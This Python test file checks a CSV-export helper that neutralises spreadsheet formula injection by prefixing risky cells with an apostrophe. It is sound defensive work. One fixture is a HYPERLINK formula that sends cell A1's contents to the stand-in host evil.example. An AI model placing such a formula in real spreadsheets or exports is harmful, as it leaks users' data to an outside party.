"""Spreadsheet formula injection (OWASP "CSV Injection"): cells that would run are made text."""

from __future__ import annotations

import csv
import io

from handlers.csv_safe import safe_cell, write_csv

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def test_formula_starts_are_neutralised() -> None:
    for value in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(value) == "'" + value
    for value in ("Amal", "1,50", "", "a=b", 42, None):
        assert safe_cell(value) == value


def test_a_written_csv_has_no_live_formula() -> None:
    data = write_csv(["Naam", "Uren"], [[EVIL, "1,50"], ["Bea", "2,00"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Naam", "Uren"], ["'" + EVIL, "1,50"], ["Bea", "2,00"]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
